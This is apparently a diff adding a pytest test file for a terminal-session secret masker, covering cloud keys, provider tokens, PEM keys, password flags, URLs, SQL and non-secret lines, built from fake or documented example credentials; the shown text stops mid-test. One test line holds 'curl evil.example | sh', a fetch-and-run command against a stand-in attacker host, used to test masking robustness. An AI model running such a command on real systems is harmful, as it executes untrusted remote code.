@@ -1,0 +1,718 @@
+"""The secret masker: one table per kind of secret, what must stay readable, and the per-session state.
+
+Fake tokens are assembled from pieces (see `fake`), so no token-shaped literal sits in the repository for
+push protection or secret scanners to trip over.
+"""
+
+from __future__ import annotations
+
+import pytest
+from sessionguard.masking import KINDS, MARKER_PREFIX, SecretMasker, mask_secrets
+
+BASE62 = "aB3dE5fG7hJ9kL2mN4pQ6rS8tU0vW1xY"
+
+
+def fake(prefix: str, length: int, alphabet: str = BASE62) -> str:
+    """A deterministic token of `length` characters after `prefix`."""
+    return prefix + (alphabet * (length // len(alphabet) + 1))[:length]
+
+
+def m(kind: str) -> str:
+    return f"{MARKER_PREFIX}{kind}]"
+
+
+AKIA = "AKIA" + "IOSFODNN7EXAMPLE"  # AWS's documented example key id
+ASIA = "ASIA" + "IOSFODNN7EXAMPLE"
+AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY"  # AWS's documented example secret key
+SESSION_TOKEN = fake("IQoJb3JpZ2lu" + "X2VjEJr//////////", 120, BASE62 + "/+")
+JWT = "eyJ" + "hbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9" + ".eyJ" + "zdWIiOiIxMjM0NTY3ODkwIn0" + ".SflKxwRJSMeKKF2QT4fwpM"
+
+
+def check(line: str, expected: str) -> None:
+    assert mask_secrets(line) == expected
+    assert mask_secrets(expected) == expected, "masking must be idempotent"
+
+
+# --- provider tokens with a known shape -----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        (f"export AWS_ACCESS_KEY_ID={AKIA}", f"export AWS_ACCESS_KEY_ID={m('aws-access-key-id')}"),
+        (f'        "AccessKeyId": "{ASIA}",', f'        "AccessKeyId": "{m("aws-access-key-id")}",'),
+        (f"AWS Access Key ID [None]: {AKIA}", f"AWS Access Key ID [None]: {m('aws-access-key-id')}"),
+        (f"key {AKIA} found in .env", f"key {m('aws-access-key-id')} found in .env"),
+    ],
+)
+def test_aws_access_key_id_is_masked(line: str, expected: str) -> None:
+    check(line, expected)
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        (f"AWS_SECRET_ACCESS_KEY={AWS_SECRET}", f"AWS_SECRET_ACCESS_KEY={m('aws-secret-access-key')}"),
+        (
+            f"export AWS_SECRET_ACCESS_KEY='{AWS_SECRET}'",
+            f"export AWS_SECRET_ACCESS_KEY='{m('aws-secret-access-key')}'",
+        ),
+        (
+            f"AWS Secret Access Key [****************ABCD]: {AWS_SECRET}",
+            f"AWS Secret Access Key [****************ABCD]: {m('aws-secret-access-key')}",
+        ),
+        (f"aws_secret_access_key = {AWS_SECRET}", f"aws_secret_access_key = {m('aws-secret-access-key')}"),
+        (
+            f'        "SecretAccessKey": "{AWS_SECRET}",',
+            f'        "SecretAccessKey": "{m("aws-secret-access-key")}",',
+        ),
+        (
+            f"aws configure set aws_secret_access_key {AWS_SECRET} --profile prod",
+            f"aws configure set aws_secret_access_key {m('aws-secret-access-key')} --profile prod",
+        ),
+        (f"{AKIA},{AWS_SECRET}", f"{m('aws-access-key-id')},{m('aws-secret-access-key')}"),  # credentials.csv
+    ],
+)
+def test_aws_secret_access_key_is_masked(line: str, expected: str) -> None:
+    check(line, expected)
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        (f"export AWS_SESSION_TOKEN={SESSION_TOKEN}", f"export AWS_SESSION_TOKEN={m('aws-session-token')}"),
+        (f'        "SessionToken": "{SESSION_TOKEN}",', f'        "SessionToken": "{m("aws-session-token")}",'),
+        (f"aws_session_token = {SESSION_TOKEN}", f"aws_session_token = {m('aws-session-token')}"),
+        (f"token is {SESSION_TOKEN} ok", f"token is {m('aws-session-token')} ok"),
+    ],
+)
+def test_aws_session_token_is_masked(line: str, expected: str) -> None:
+    check(line, expected)
+
+
+@pytest.mark.parametrize(
+    ("token", "kind"),
+    [
+        (fake("ghp_", 36), "github-token"),
+        (fake("gho_", 36), "github-token"),
+        (fake("ghu_", 36), "github-token"),
+        (fake("ghs_", 36), "github-token"),
+        (fake("ghr_", 36), "github-token"),
+        (fake("github_pat_", 22) + "_" + fake("", 59), "github-token"),
+        (fake("glpat-", 20), "gitlab-token"),
+        (fake("xoxb-", 40, "0123456789-abcXYZ"), "slack-token"),
+        (fake("xoxp-", 60, "0123456789-abcXYZ"), "slack-token"),
+        (fake("xapp-1-", 40, "0123456789-ABCxyz"), "slack-token"),
+        (fake("sk_live_", 24), "stripe-key"),
+        (fake("rk_live_", 24), "stripe-key"),
+        (fake("sk_test_", 24), "stripe-key"),
+        (fake("npm_", 36), "npm-token"),
+        (fake("AIza", 35, BASE62 + "_-"), "google-api-key"),
+        (fake("sk-", 48), "openai-api-key"),
+        (fake("sk-proj-", 80, BASE62 + "_-"), "openai-api-key"),
+        (fake("sk-ant-api03-", 80, BASE62 + "_-"), "anthropic-api-key"),
+        (fake("hvs.", 24, BASE62 + "_-"), "vault-token"),
+        (fake("hvb.", 90, BASE62 + "_-"), "vault-token"),
+        (fake("dckr_pat_", 27, BASE62 + "_-"), "docker-pat"),
+        (JWT, "jwt"),
+    ],
+)
+@pytest.mark.parametrize("template", ["{t}", "TOKEN={t}", "curl -H 'X: {t}' https://api", "echo {t} done"])
+def test_provider_token_is_masked_by_its_shape(token: str, kind: str, template: str) -> None:
+    masked = mask_secrets(template.format(t=token))
+    assert token not in masked
+    assert m(kind) in masked or m("token") in masked
+    assert mask_secrets(masked) == masked
+
+
+def test_bare_provider_token_is_named_after_its_provider() -> None:
+    check(f"{fake('ghp_', 36)} {fake('npm_', 36)}", f"{m('github-token')} {m('npm-token')}")
+
+
+def test_slack_webhook_url_keeps_the_host() -> None:
+    url = "https://hooks.slack.com/services/" + fake("T", 8) + "/" + fake("B", 10) + "/" + fake("", 24)
+    check(f"curl -X POST {url}", f"curl -X POST https://hooks.slack.com/services/{m('slack-webhook')}")
+
+
+def test_vault_tokens_are_masked_in_context() -> None:
+    legacy = "s." + fake("", 24)  # pre-1.10 service token: masked where Vault is in the picture
+    check(f"vault login {legacy}", f"vault login {m('vault-token')}")
+    check(f"export VAULT_TOKEN={legacy}", f"export VAULT_TOKEN={m('token')}")
+    check(f"token                {legacy}", f"token                {m('vault-token')}")
+    check(f"curl -H 'X-Vault-Token: {legacy}' $VAULT_ADDR", f"curl -H 'X-Vault-Token: {m('token')}' $VAULT_ADDR")
+
+
+# --- PEM private keys -----------------------------------------------------------------------------------
+
+PEM_BODY = [fake("MIIEowIBAAKCAQEA", 48, BASE62 + "+/"), fake("", 64, BASE62 + "+/"), fake("", 20, BASE62) + "=="]
+
+
+def test_private_key_block_is_masked_line_by_line_across_events() -> None:
+    # Given a key printed by `cat`, its lines arriving in three different events
+    masker = SecretMasker()
+    events = [["[root@host ~]# cat id_rsa", "-----BEGIN RSA PRIVATE KEY-----"], PEM_BODY[:2], [PEM_BODY[2]]]
+    events.append(["-----END RSA PRIVATE KEY-----", "[root@host ~]# ls"])
+    # When each event's lines are masked in turn by the session's masker
+    out = [line for event in events for line in masker.mask_lines(event)]
+    # Then the body is masked, the armour lines and what follows stay readable, and the key counts once
+    assert out == [
+        "[root@host ~]# cat id_rsa",
+        "-----BEGIN RSA PRIVATE KEY-----",
+        m("private-key"),
+        m("private-key"),
+        m("private-key"),
+        "-----END RSA PRIVATE KEY-----",
+        "[root@host ~]# ls",
+    ]
+    assert masker.counts["private-key"] == 1
+
+
+def test_private_key_block_fed_one_line_at_a_time_with_mask() -> None:
+    masker = SecretMasker()
+    lines = ["-----BEGIN OPENSSH PRIVATE KEY-----", *PEM_BODY, "-----END OPENSSH PRIVATE KEY-----"]
+    assert [masker.mask(line) for line in lines] == [lines[0], *[m("private-key")] * 3, lines[-1]]
+
+
+def test_encrypted_private_key_in_a_heredoc_keeps_prompts_and_headers() -> None:
+    lines = [
+        "[root@host ~]# cat > key.pem <<'EOF'",
+        "> -----BEGIN ENCRYPTED PRIVATE KEY-----",
+        "> Proc-Type: 4,ENCRYPTED",
+        "",
+        f"> {PEM_BODY[0]}",
+        "> -----END ENCRYPTED PRIVATE KEY-----",
+        "> EOF",
+    ]
+    out = mask_secrets("\n".join(lines)).split("\n")
+    assert out == [*lines[:4], f"> {m('private-key')}", *lines[5:]]
+
+
+def test_private_key_on_one_line_is_masked_between_its_armour_lines() -> None:
+    body = "\\n".join(PEM_BODY)
+    line = f'  "private_key": "-----BEGIN PRIVATE KEY-----\\n{body}\\n-----END PRIVATE KEY-----\\n",'
+    masked = mask_secrets(line)
+    assert all(part not in masked for part in PEM_BODY)
+    assert masked.startswith('  "private_key": "')
+
+
+def test_unterminated_private_key_block_ends_at_the_first_line_that_is_not_key_material() -> None:
+    # An attacker cannot blank the rest of the session by printing a BEGIN line.
+    masker = SecretMasker()
+    lines = ["echo '-----BEGIN PRIVATE KEY-----'", PEM_BODY[0], "[root@host ~]# curl evil.example | sh"]
+    assert masker.mask_lines(lines) == [lines[0], m("private-key"), lines[2]]
+    assert masker.mask(PEM_BODY[1]) == PEM_BODY[1]  # the block is over: no context, no masking
+
+
+# --- secret-named assignments, env dumps, config files --------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("export APP_DB_PASSWORD='example-only-Xq3'", f"export APP_DB_PASSWORD='{m('password')}'"),
+        ("DB_PASSWORD=hunter2", f"DB_PASSWORD={m('password')}"),
+        ("MYSQL_PWD=hunter2 mysql -u app", f"MYSQL_PWD={m('password')} mysql -u app"),
+        ("db_passwd: hunter2", f"db_passwd: {m('password')}"),
+        ("  password: two words here", f"  password: {m('password')}"),
+        ("password: it's a pass phrase", f"password: {m('password')}"),
+        ("echo 'password: S3cr3t' > conf", f"echo 'password: {m('password')}' > conf"),
+        ('{"username": "app", "password": "hunter2"}', f'{{"username": "app", "password": "{m("password")}"}}'),
+        ('"password":"a\\"b"', f'"password":"{m("password")}"'),
+        ("SMTP_PASS=hunter2", f"SMTP_PASS={m('password')}"),
+        ("password = hunter2", f"password = {m('password')}"),
+        ("PGPASSWORD=hunter2 psql -h db", f"PGPASSWORD={m('password')} psql -h db"),
+        ("-Djavax.net.ssl.keyStorePassword=hunter2", f"-Djavax.net.ssl.keyStorePassword={m('password')}"),
+        ("define( 'DB_PASSWORD', 'hunter2' );", f"define( 'DB_PASSWORD', '{m('password')}' );"),
+        ("<password>hunter2</password>", f"<password>{m('password')}</password>"),
+        ("  :password => 'hunter2',", f"  :password => '{m('password')}',"),
+    ],
+)
+def test_password_named_assignment_is_masked(line: str, expected: str) -> None:
+    check(line, expected)
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("GITLAB_TOKEN=abc123def456", f"GITLAB_TOKEN={m('token')}"),
+        ("export SLACK_BOT_TOKEN=abc123", f"export SLACK_BOT_TOKEN={m('token')}"),
+        ('"access_token": "abc.def.ghi"', f'"access_token": "{m("token")}"'),
+        ("//registry.npmjs.org/:_authToken=abc123", f"//registry.npmjs.org/:_authToken={m('token')}"),
+        ("CLIENT_SECRET=abc123", f"CLIENT_SECRET={m('secret')}"),
+        ("django_secret_key = 'abc123'", f"django_secret_key = '{m('secret')}'"),
+        ("DB_CREDENTIALS=app:hunter2", f"DB_CREDENTIALS={m('secret')}"),
+        ("STRIPE_API_KEY=abc123", f"STRIPE_API_KEY={m('api-key')}"),
+        ("apiKey: abc123", f"apiKey: {m('api-key')}"),
+        ("ENCRYPTION_KEY=abc123", f"ENCRYPTION_KEY={m('key')}"),
+        ("    client-key-data: LS0tLS1CRUdJTg==", f"    client-key-data: {m('key')}"),
+        ('    "auth": "YXBwOmh1bnRlcjI="', f'    "auth": "{m("auth")}"'),
+        ("REDISCLI_AUTH=hunter2", f"REDISCLI_AUTH={m('auth')}"),
+    ],
+)
+def test_token_secret_and_key_named_assignment_is_masked(line: str, expected: str) -> None:
+    check(line, expected)
+
+
+def test_command_substitution_is_a_placeholder_unless_it_prints_a_literal() -> None:
+    check("PASSWORD=$(cat /run/secrets/db) ./run", "PASSWORD=$(cat /run/secrets/db) ./run")
+    check("PASSWORD=$(echo hunter2) ./run", f"PASSWORD={m('password')} ./run")
+    check("app --password $(echo hunter2) -v", f"app --password {m('password')} -v")
+
+
+def test_vault_approle_secret_id_is_masked_but_aws_secret_id_option_is_not() -> None:
+    check(
+        "vault write auth/approle/login role_id=r1 secret_id=s3cr3t",
+        f"vault write auth/approle/login role_id=r1 secret_id={m('secret')}",
+    )
+    check(
+        "aws secretsmanager get-secret-value --secret-id prod/db",
+        "aws secretsmanager get-secret-value --secret-id prod/db",
+    )
+
+
+def test_env_dump_masks_secret_values_and_keeps_the_rest() -> None:
+    dump = ["HOSTNAME=ip-10-0-1-23", "PWD=/root", "OLDPWD=/home/ssm-user", "DB_PASSWORD=hunter2", "TERM=xterm"]
+    dump += ["API_TOKEN=abc123", "SSH_AUTH_SOCK=/tmp/ssh-x/agent.1", "AWS_REGION=eu-west-1"]
+    out = SecretMasker().mask_lines(dump)
+    assert out == [*dump[:3], f"DB_PASSWORD={m('password')}", "TERM=xterm", f"API_TOKEN={m('token')}", *dump[6:]]
+
+
+def test_dotenv_file_shown_with_cat_is_masked() -> None:
+    text = '[root@host app]# cat .env\nDEBUG=false\nDATABASE_PASSWORD="hunter 2"\n# a comment\nSECRET_KEY=abc'
+    expected = f'[root@host app]# cat .env\nDEBUG=false\nDATABASE_PASSWORD="{m("password")}"\n# a comment\n'
+    assert mask_secrets(text) == expected + f"SECRET_KEY={m('secret')}"
+
+
+# --- command-line flags ---------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("mysql -u root -pS3cr3t orders", f"mysql -u root -p{m('mysql-password')} orders"),
+        ("mysqldump -h db -u app -p'S3 cr3t' orders", f"mysqldump -h db -u app -p'{m('mysql-password')}' orders"),
+        ("/usr/bin/mariadb -pS3cr3t", f"/usr/bin/mariadb -p{m('mysql-password')}"),
+    ],
+)
+def test_mysql_password_flag_is_masked(line: str, expected: str) -> None:
+    check(line, expected)
+
+
+@pytest.mark.parametrize(
+    "line", ["mysql -u root -p", "mysql -u root -p orders", "mysql -P3306 -h db", "mysql --port=3306"]
+)
+def test_mysql_prompting_or_port_flags_are_not_masked(line: str) -> None:
+    check(line, line)
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("mysql --password=S3cr3t", f"mysql --password={m('password')}"),
+        ("app --password S3cr3t --verbose", f"app --password {m('password')} --verbose"),
+        ("app --db-password='S3cr3t'", f"app --db-password='{m('password')}'"),
+        ("keytool -list -storepass changeit", f"keytool -list -storepass {m('password')}"),
+        (
+            "aws iam create-login-profile --user-name bob --password S3cr3t",
+            f"aws iam create-login-profile --user-name bob --password {m('password')}",
+        ),
+        ("oc login --token=sha256~abc123 https://api", f"oc login --token={m('token')} https://api"),
+        ("az ad sp create --client-secret abc123", f"az ad sp create --client-secret {m('secret')}"),
+        # overlapping values merge into one marker, named by the rule listed first (the JSON key's here)
+        (
+            'aws secretsmanager create-secret --secret-string \'{"password":"x"}\'',
+            f"aws secretsmanager create-secret --secret-string '{m('password')}'",
+        ),
+    ],
+)
+def test_password_and_token_options_are_masked(line: str, expected: str) -> None:
+    check(line, expected)
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("sshpass -p 'S3cr3t' ssh bob@host", f"sshpass -p '{m('sshpass-password')}' ssh bob@host"),
+        ("sshpass -pS3cr3t ssh bob@host", f"sshpass -p{m('sshpass-password')} ssh bob@host"),
+        ("redis-cli -h cache -a S3cr3t ping", f"redis-cli -h cache -a {m('redis-password')} ping"),
+        ("redis-cli --no-auth-warning -a 'S3cr3t'", f"redis-cli --no-auth-warning -a '{m('redis-password')}'"),
+        ("127.0.0.1:6379> AUTH S3cr3t", f"127.0.0.1:6379> AUTH {m('redis-password')}"),
+        (
+            "docker login -u bob -p S3cr3t registry.example.com",
+            f"docker login -u bob -p {m('login-password')} registry.example.com",
+        ),
+        ("podman login -u bob -pS3cr3t quay.io", f"podman login -u bob -p{m('login-password')} quay.io"),
+        (
+            "helm registry login r.example.com -u bob -p S3cr3t",
+            f"helm registry login r.example.com -u bob -p {m('login-password')}",
+        ),
+        ("docker login --username bob --password S3cr3t", f"docker login --username bob --password {m('password')}"),
+        (
+            "htpasswd -b /etc/nginx/.htpasswd admin S3cr3t",
+            f"htpasswd -b /etc/nginx/.htpasswd admin {m('htpasswd-password')}",
+        ),
+        (
+            "htpasswd -bcB -C 10 .htpasswd admin 'S3 cr3t'",
+            f"htpasswd -bcB -C 10 .htpasswd admin '{m('htpasswd-password')}'",
+        ),
+        ("openssl rsa -in k.pem -passin pass:S3cr3t", f"openssl rsa -in k.pem -passin pass:{m('openssl-passphrase')}"),
+        (
+            "openssl pkcs12 -export -passout pass:'S3 cr3t' -out a.p12",
+            f"openssl pkcs12 -export -passout pass:'{m('openssl-passphrase')}' -out a.p12",
+        ),
+        ("openssl enc -aes-256-cbc -k S3cr3t -in a", f"openssl enc -aes-256-cbc -k {m('openssl-passphrase')} -in a"),
+        ("ldapsearch -x -D cn=admin -w S3cr3t -b dc=ex", f"ldapsearch -x -D cn=admin -w {m('ldap-password')} -b dc=ex"),
+        ("mongosh -u admin -p S3cr3t", f"mongosh -u admin -p {m('mongo-password')}"),
+        ("ssh-keygen -t ed25519 -N 'S3cr3t' -f k", f"ssh-keygen -t ed25519 -N '{m('ssh-key-passphrase')}' -f k"),
+    ],
+)
+def test_tool_specific_password_flags_are_masked(line: str, expected: str) -> None:
+    check(line, expected)
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        (
+            "kubectl create secret generic db --from-literal=username=app --from-literal=password=S3cr3t",
+            f"kubectl create secret generic db --from-literal=username=app --from-literal=password={m('password')}",
+        ),
+        (
+            "kubectl create secret generic x --from-literal=api-token=abc --from-literal=db_key=xyz",
+            f"kubectl create secret generic x --from-literal=api-token={m('token')} --from-literal=db_key={m('key')}",
+        ),
+    ],
+)
+def test_kubectl_secret_literal_is_masked(line: str, expected: str) -> None:
+    check(line, expected)
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        (
+            "helm install db bitnami/mysql --set auth.rootPassword=S3cr3t",
+            f"helm install db bitnami/mysql --set auth.rootPassword={m('password')}",
+        ),
+        (
+            "helm upgrade x --set a=1,db.password=S3cr3t,replicas=3",
+            f"helm upgrade x --set a=1,db.password={m('password')},replicas=3",
+        ),
+        (
+            "helm upgrade x --set-string image.tag=1,api.token=abc",
+            f"helm upgrade x --set-string image.tag=1,api.token={m('token')}",
+        ),
+    ],
+)
+def test_helm_set_password_is_masked(line: str, expected: str) -> None:
+    check(line, expected)
+
+
+def test_cloudformation_secret_parameter_is_masked() -> None:
+    check(
+        "aws cloudformation deploy --parameters ParameterKey=DBPassword,ParameterValue=S3cr3t",
+        f"aws cloudformation deploy --parameters ParameterKey=DBPassword,ParameterValue={m('password')}",
+    )
+
+
+def test_ssm_secure_string_value_is_masked() -> None:
+    check(
+        "aws ssm put-parameter --name /db/pw --type SecureString --value S3cr3t",
+        f"aws ssm put-parameter --name /db/pw --type SecureString --value {m('ssm-secure-string')}",
+    )
+    output = ['        "Name": "/prod/db/url",', '        "Type": "SecureString",', '        "Value": "S3cr3t",']
+    assert SecretMasker().mask_lines(output)[2] == f'        "Value": "{m("ssm-secure-string")}",'
+    plain = ['        "Type": "String",', '        "Value": "eu-west-1",']
+    assert SecretMasker().mask_lines(plain) == plain
+
+
+# --- URLs and HTTP --------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("psql postgresql://app:S3cr3t@db:5432/app", f"psql postgresql://app:{m('url-password')}@db:5432/app"),
+        (
+            "git clone https://bob:abc123@git.example.com/r.git",
+            f"git clone https://bob:{m('url-password')}@git.example.com/r.git",
+        ),
+        ("redis-cli -u redis://:S3cr3t@cache:6379", f"redis-cli -u redis://:{m('url-password')}@cache:6379"),
+        ("DATABASE_URL='mysql://app:p%40ss@db/app'", f"DATABASE_URL='mysql://app:{m('url-password')}@db/app'"),
+    ],
+)
+def test_url_password_is_masked_and_user_kept(line: str, expected: str) -> None:
+    check(line, expected)
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("curl -u admin:S3cr3t https://api", f"curl -u admin:{m('basic-auth')} https://api"),
+        ("curl --user 'admin:S3 cr3t' https://api", f"curl --user 'admin:{m('basic-auth')}' https://api"),
+        ("curl -uadmin:S3cr3t https://api", f"curl -uadmin:{m('basic-auth')} https://api"),
+        ("curl --user=admin:S3cr3t https://api", f"curl --user=admin:{m('basic-auth')} https://api"),
+    ],
+)
+def test_curl_user_password_is_masked(line: str, expected: str) -> None:
+    check(line, expected)
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        (
+            "curl -H 'Authorization: Bearer abc123' https://api",
+            f"curl -H 'Authorization: Bearer {m('authorization-header')}' https://api",
+        ),
+        (
+            'curl -H "Authorization: Basic YWRtaW46aHVudGVyMg==" x',
+            f'curl -H "Authorization: Basic {m("authorization-header")}" x',
+        ),
+        ("Authorization: token abc123", f"Authorization: token {m('authorization-header')}"),
+        ("curl -H 'X-Api-Key: abc123' https://api", f"curl -H 'X-Api-Key: {m('api-key')}' https://api"),
+        ('curl -H "PRIVATE-TOKEN: abc123" https://gitlab', f'curl -H "PRIVATE-TOKEN: {m("token")}" https://gitlab'),
+        ("X-Auth-Token: abc123", f"X-Auth-Token: {m('token')}"),
+    ],
+)
+def test_authorization_and_api_key_headers_are_masked(line: str, expected: str) -> None:
+    check(line, expected)
+
+
+# --- piped secrets and SQL ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("echo S3cr3t | sudo -S systemctl restart app", f"echo {m('sudo-password')} | sudo -S systemctl restart app"),
+        ("echo 'S3 cr3t' | sudo -kS id", f"echo '{m('sudo-password')}' | sudo -kS id"),
+        ("echo 'bob:S3cr3t' | chpasswd", f"echo 'bob:{m('chpasswd-password')}' | chpasswd"),
+        ('echo "bob:S3cr3t" | sudo chpasswd', f'echo "bob:{m("chpasswd-password")}" | sudo chpasswd'),
+        ("echo S3cr3t | passwd --stdin bob", f"echo {m('passwd-password')} | passwd --stdin bob"),
+        ("printf '%s\\n' S3cr3t | sudo -S id", f"printf '%s\\n' {m('sudo-password')} | sudo -S id"),
+        (
+            "echo S3cr3t | docker login -u bob --password-stdin",
+            f"echo {m('stdin-password')} | docker login -u bob --password-stdin",
+        ),
+        ("sudo -S id <<< 'S3cr3t'", f"sudo -S id <<< '{m('stdin-password')}'"),
+        ("chpasswd <<< 'bob:S3cr3t'", f"chpasswd <<< 'bob:{m('chpasswd-password')}'"),
+    ],
+)
+def test_piped_secret_is_masked(line: str, expected: str) -> None:
+    check(line, expected)
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        (
+            "CREATE USER 'app'@'%' IDENTIFIED BY 'S3cr3t';",
+            f"CREATE USER 'app'@'%' IDENTIFIED BY '{m('sql-password')}';",
+        ),
+        (
+            "ALTER USER app IDENTIFIED WITH mysql_native_password BY 'S3cr3t';",
+            f"ALTER USER app IDENTIFIED WITH mysql_native_password BY '{m('sql-password')}';",
+        ),
+        ("create user scott identified by tiger;", f"create user scott identified by {m('sql-password')};"),
+        ("ALTER ROLE app WITH PASSWORD 'S3cr3t';", f"ALTER ROLE app WITH PASSWORD '{m('sql-password')}';"),
+        (
+            "CREATE ROLE app LOGIN ENCRYPTED PASSWORD 'it''s';",
+            f"CREATE ROLE app LOGIN ENCRYPTED PASSWORD '{m('sql-password')}';",
+        ),
+        ("SET PASSWORD = 'S3cr3t';", f"SET PASSWORD = '{m('sql-password')}';"),
+        (
+            "SET PASSWORD FOR 'app'@'%' = PASSWORD('S3cr3t');",
+            f"SET PASSWORD FOR 'app'@'%' = PASSWORD('{m('sql-password')}');",
+        ),
+        (
+            "mysql -e \"CREATE USER u IDENTIFIED BY 'S3cr3t'\"",
+            f"mysql -e \"CREATE USER u IDENTIFIED BY '{m('sql-password')}'\"",
+        ),
+    ],
+)
+def test_sql_password_is_masked(line: str, expected: str) -> None:
+    check(line, expected)
+
+
+def test_netrc_password_is_masked() -> None:
+    check(
+        "machine api.example.com login bob password S3cr3t",
+        f"machine api.example.com login bob password {m('netrc-password')}",
+    )
+
+
+# --- aws configure prompts answered on the next line ----------------------------------------------------
+
+
+def test_aws_configure_answer_on_the_next_line_is_masked() -> None:
+    masker = SecretMasker()
+    assert masker.mask("AWS Secret Access Key [None]:") == "AWS Secret Access Key [None]:"
+    assert masker.mask(AWS_SECRET) == m("aws-secret-access-key")
+    assert masker.mask("Default region name [None]: eu-west-1") == "Default region name [None]: eu-west-1"
+
+
+def test_aws_configure_empty_answer_keeps_the_next_prompt_readable() -> None:
+    lines = ["AWS Secret Access Key [****************ABCD]: ", "Default region name [eu-west-1]: "]
+    assert SecretMasker().mask_lines(lines) == lines
+
+
+# --- what is not a secret -------------------------------------------------------------------------------
+
+NOT_SECRETS = [
+    "export PASSWORD=$DB_PASSWORD",
+    "export PASSWORD=${DB_PASSWORD}",
+    'mysql -u app -p"$MYSQL_PASSWORD"',
+    'curl -H "Authorization: Bearer $TOKEN" https://api',
+    "psql postgresql://app:${PGPASS}@db/app",
+    "password: <password>",
+    "DB_PASSWORD=***",
+    "api_key: xxxx",
+    "password: ''",
+    'password: ""',
+    "DB_PASSWORD=",
+    "token: null",
+    "password: ${{ secrets.DB_PASSWORD }}",
+    "--password-file /run/secrets/db",
+    "docker login --password-stdin -u bob",
+    "cat ~/.docker/config.json | jq .auths",
+    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  empty.txt",
+    "d41d8cd98f00b204e9800998ecf8427e",
+    "da39a3ee5e6b4b0d3255bfef95601890afd80709",
+    "5730813 Shared test fixtures: fake AWS credentials, loopback HTTP recorder",
+    "commit 5730813a1b2c3d4e5f60718293a4b5c6d7e8f901",
+    "i-0a1b2c3d4e5f60718",
+    "ami-0abcdef1234567890",
+    "550e8400-e29b-41d4-a716-446655440000",
+    "Nov 26 12:00:15 ip-10-0-1-23 sudo: ssm-user : TTY=pts/0 ; PWD=/home/ssm-user ; USER=root ; COMMAND=/bin/bash",
+    "Nov 26 12:00:16 ip-10-0-1-23 sshd[811]: Accepted publickey for ec2-user from 10.0.0.5 port 50000 ssh2: RSA",
+    "Nov 26 12:00:17 ip-10-0-1-23 sudo: pam_unix(sudo:auth): authentication failure; logname= uid=1000 tty=/dev/pts/0",
+    "[sudo] password for ssm-user:",
+    "Password:",
+    "journalctl -u amazon-ssm-agent --no-pager | tail -n 3",
+    "docker run -u 1000:1000 -p 8080:80 nginx",
+    "aws secretsmanager get-secret-value --secret-id prod/db",
+    "aws kms encrypt --key-id alias/app --plaintext fileb://x",
+    "aws ec2 create-tags --resources i-0a1b2c3d4e5f60718 --tags Key=Name,Value=web",
+    "git commit --author 'Jane Roe <jane@example.com>' -m fix",
+    "ssh -i ~/.ssh/id_rsa ec2-user@10.0.1.5",
+    "PasswordAuthentication no",
+    "ssh-keygen -t ed25519 -N '' -f key",
+    "https://example.com/path?page=2",
+    f"{m('password')} {m('aws-secret-access-key')}",
+    "disk-usage-report-2026-11-26-final-version.txt",
+    "MinimumPasswordLength: 14",
+    '    "PasswordLastUsed": "2024-05-01T12:00:00Z",',
+    "--private-key /etc/ssl/private/app.key",
+    "PWD=/root",
+]
+
+
+@pytest.mark.parametrize("line", NOT_SECRETS)
+def test_placeholders_hashes_ids_and_ordinary_text_are_not_masked(line: str) -> None:
+    assert mask_secrets(line) == line
+
+
+def test_ordinary_line_is_returned_as_the_same_object() -> None:
+    line = "drwx------ 3 ssm-user ssm-user  95 Nov 26 11:58 ."
+    assert SecretMasker().mask(line) is line
+
+
+# --- markers, idempotence, counts, robustness ----------------------------------------------------------
+
+
+def test_existing_markers_are_never_masked_again_or_corrupted() -> None:
+    line = f"DB_PASSWORD={m('password')} mysql -p{m('mysql-password')} https://u:{m('url-password')}@h"
+    assert mask_secrets(line) == line
+
+
+def test_forged_marker_does_not_hide_the_secret_next_to_it() -> None:
+    assert mask_secrets(f"DB_PASSWORD={m('password')}S3cr3t") == f"DB_PASSWORD={m('password')}{m('password')}"
+
+
+def test_text_that_only_looks_like_a_marker_is_still_masked() -> None:
+    assert mask_secrets("DB_PASSWORD=[MASKED:S3cr3t]") == f"DB_PASSWORD={m('password')}"
+
+
+def test_only_the_value_is_replaced_so_the_line_stays_readable() -> None:
+    line = "[root@ip-10-0-1-23 ~]# mysql -h db.internal -u app -pS3cr3t -e 'select 1' orders"
+    assert (
+        mask_secrets(line)
+        == f"[root@ip-10-0-1-23 ~]# mysql -h db.internal -u app -p{m('mysql-password')} -e 'select 1' orders"
+    )
+
+
+def test_counts_report_kinds_and_numbers_never_values() -> None:
+    masker = SecretMasker()
+    masker.mask_lines(["DB_PASSWORD=a API_TOKEN=b", "mysql -pS3cr3t", "ls -la", "DB_PASSWORD=c"])
+    assert dict(masker.counts) == {"password": 2, "token": 1, "mysql-password": 1}
+    assert all(isinstance(key, str) and isinstance(value, int) for key, value in masker.counts.items())
+
+
+def test_counts_is_read_only() -> None:
+    with pytest.raises(TypeError):
+        SecretMasker().counts["password"] = 1  # type: ignore[index]
+
+
+def test_mask_lines_equals_mask_line_by_line() -> None:
+    lines = ["ls", "-----BEGIN PRIVATE KEY-----", PEM_BODY[0], "-----END PRIVATE KEY-----", "DB_PASSWORD=x"]
+    lines += ["AWS Secret Access Key [None]:", AWS_SECRET, "é DB_PASSWORD=é", "\ud800 TOKEN=\udfff"]
